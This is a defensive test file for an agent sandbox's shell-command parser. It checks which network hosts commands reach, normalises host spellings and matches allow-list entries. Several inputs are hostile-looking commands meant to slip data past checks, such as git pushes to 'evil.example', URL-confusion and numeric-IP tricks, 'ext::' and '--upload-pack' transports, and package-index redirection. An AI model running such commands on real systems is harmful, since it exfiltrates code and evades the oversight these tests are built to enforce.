"""Which hosts a command names, and that names are compared in one spelling."""

from __future__ import annotations

import ipaddress
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ohmo.contracts.sandbox import Names
from ohmo.sandbox.proxy import permitted
from ohmo.shell.hosts import (
    PRIVATE_NAMES,
    endpoint,
    hosts_of,
    is_local,
    spelled,
    understood,
    written,
)
from ohmo.shell.parsing import Shell
from ohmo.tools.web_addresses import name_problem

LABELS = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?", fullmatch=True)
HOSTS = st.builds(".".join, st.lists(LABELS, min_size=1, max_size=3)).filter(spelled)


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("curl -sS https://Example.org/a", ("example.org:443",)),
        ("curl http://user:pw@example.org:8080/x http://b.org", ("example.org:8080", "b.org:80")),
        ("curl https://good.org@evil.org/", ("evil.org:443",)),
        ("curl 'https://evil.org\\@good.org/'", ()),
        ("curl -sS example.org/a", ("example.org:80",)),
        ("curl -fsSI localhost:3000/x?y", ("localhost:3000",)),
        ("curl example.org/x -o backup.zip", ()),  # which of them is a value, nobody says
        ("curl -o backup.zip example.org/x", ()),
        ("wget -O backup.zip", ()),
        ("curl 0:3000/x", ()),
        ("curl http://127.1:3000/", ()),
        ("curl https:/evil.com/", ()),
        ("curl https://ev%69l.com/", ()),
        ("curl $URL", ()),
        ("curl https://a$X.org/", ()),
        ("curl 'http://[::1]:3000/' http://2130706433/", ("[::1]:3000",)),
        ("curl 'https://münchen.example/'", ("xn--mnchen-3ya.example:443",)),
        ("git clone https://example.org/x.git", ("example.org:443",)),
        ("git clone git@example.org:x.git", ()),
        ("python3 -c \"open('https://a.org/x')\"", ("a.org:443",)),
        ("pip install requests", ()),  # which mirror it uses is its own setting
        ("gh pr list && cat a", ("api.github.com", "github.com")),
        ("npm run build", ()),
        ("ls", ()),
    ],
)
def test_hosts_that_words_name(tmp_path: Path, command: str, hosts: tuple[str, ...]) -> None:
    assert hosts_of(Shell(tmp_path, "/usr/bin").parse(command, tmp_path)) == hosts


def test_git_goes_where_its_repository_says(tmp_path: Path) -> None:
    (tmp_path / "sub/.git").mkdir(parents=True)
    config = '[remote "origin"]\n\turl = https://example.org/x.git\n\tpushurl=http://p.org:99/x\n'
    (tmp_path / "sub/.git/config").write_text(config + "[core]\n\teditor = https://not.org/\n")
    shell = Shell(tmp_path, "/usr/bin")
    for command in ("git -C sub push", "cd sub && git push origin main"):
        found = hosts_of(shell.parse(command, tmp_path))
        assert found == ("example.org:443", "p.org:99"), command
    assert hosts_of(shell.parse("cd sub && git commit", tmp_path)) == ()


@pytest.mark.parametrize("fill", ["\n", "\r\n", " ", "\turl", "url=", "url = a ", "url=\t"])
def test_settings_written_to_be_slow_are_read_at_once(tmp_path: Path, fill: str) -> None:
    """This runs on the event loop, before anybody is asked."""
    (tmp_path / ".git").mkdir()
    config = tmp_path / ".git/config"
    push = Shell(tmp_path, "/usr/bin").parse("git push", tmp_path)
    config.write_text((fill * 16_000)[:16_000] + "\n\turl = https://a.org/\n")
    began = time.process_time()
    assert "a.org:443" in hosts_of(push)
    assert time.process_time() - began < 1  # quadratic: ten seconds
    # of longer ones, whose end might be cut off a name, none is taken
    config.write_text(
        "url = https://b.org/\n" + "#" * (16 * 1024 - 42) + "\nurl = https://a.organic/\n"
    )
    assert (hosts_of(push), understood(push)) == ((), False)


def test_few_repositories_of_a_command_are_looked_at(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked: list[str] = []
    monkeypatch.setattr("ohmo.shell.hosts.located", looked.append)
    lines = ";".join(f"git -C r{number} push" for number in range(300))
    script = Shell(tmp_path, "/usr/bin").parse(lines, tmp_path)
    assert (hosts_of(script), len(looked)) == ((), 4)
    assert not understood(script)


@pytest.mark.parametrize(
    ("command", "yes"),
    [
        ("pip install requests", True),
        ("npm ci && ls", True),
        ("pip install git+https:/evil.org/x", False),
        ("npm ci; curl https://a.org/", False),  # who answers may send it elsewhere
        ("gh pr list", False),
        ("ssh a.org", False),
        ("git push", False),  # there is no repository
    ],
)
def test_what_goes_its_own_way_is_known(tmp_path: Path, command: str, *, yes: bool) -> None:
    assert understood(Shell(tmp_path, "/usr/bin").parse(command, tmp_path)) is yes


@given(HOSTS, st.sampled_from(["", *(f".{name}" for name in PRIVATE_NAMES)]))
def test_what_no_page_is_read_from_is_no_public_name(host: str, end: str) -> None:
    name = f"{host}{end}"
    assert is_local(name) is bool(name_problem(name))
    assert is_local(name) or not end


@given(st.ip_addresses())
def test_an_address_has_one_spelling(ip: ipaddress.IPv4Address | ipaddress.IPv6Address) -> None:
    assert spelled(str(ip)) == spelled(ip.exploded) == spelled(str(ip).upper()) == str(ip)
    assert endpoint(written(str(ip), 80)) == (str(ip), 80)
    if ip.version == 4:  # and inet_aton(3) none
        number = int(ip)
        for other in (str(number), hex(number), f"0{oct(number)[2:]}", f"1.{number & 0xFFFFFF}"):
            assert spelled(other) == "", other


@given(st.text(max_size=40))
def test_what_is_spelled_stays_and_holds_nothing_strange(text: str) -> None:
    host = spelled(text)
    assert spelled(host) == host
    assert host.isascii()
    assert not set(host) & set(" \r\n\t/@?#%\\,*\0")


@given(HOSTS, HOSTS, st.integers(1, 65535), st.integers(1, 65535), st.booleans())
def test_names_are_compared_whole(name: str, host: str, port: int, other: int, up: bool) -> None:
    """Only the very host and port is open; of a domain all below, at a dot."""

    def why(host: str, *names: str, barred: tuple[str, ...] = ()) -> str:
        return permitted(host, port, Names(names, barred))

    found = endpoint(f"{name.upper() if up else name}.")
    assert found is not None
    assert found[0] == name
    assert (not why(host, f"{name}:{port}")) is (host == name)
    assert (not why(host, f"{host}:{other}")) is (port == other)
    assert (not why(host, name)) is (host == name and not is_local(host))
    below = host == name or host.endswith(f".{name}")
    assert (not why(host, f".{name}")) is (below and not is_local(host))
    assert bool(why(host, f"{host}:{port}", barred=(f".{name}",))) is below
    assert why(f"x{host}", host, f".{host}") != ""


@pytest.mark.parametrize(
    "command",
    [
        "git push git@evil.example:x.git main",
        "git push ssh://evil.example/x",
        "git push git://evil.example/x",
        "git fetch --upload-pack=x .",
        "git fetch ext::x",
        "git --git-dir=/tmp/other/.git fetch",
        "GIT_DIR=/tmp/other git fetch",
        "git -c remote.origin.url=x push",
        "npm install evil/repo",
        "PIP_INDEX_URL=x pip install y",
    ],
)
def test_what_may_lead_elsewhere_is_not_understood(tmp_path: Path, command: str) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git/config").write_text('[remote "origin"]\n\turl = https://example.org/x.git\n')
    shell = Shell(tmp_path, "/usr/bin")
    assert understood(shell.parse("git push -u origin main", tmp_path))
    assert not understood(shell.parse(command, tmp_path))
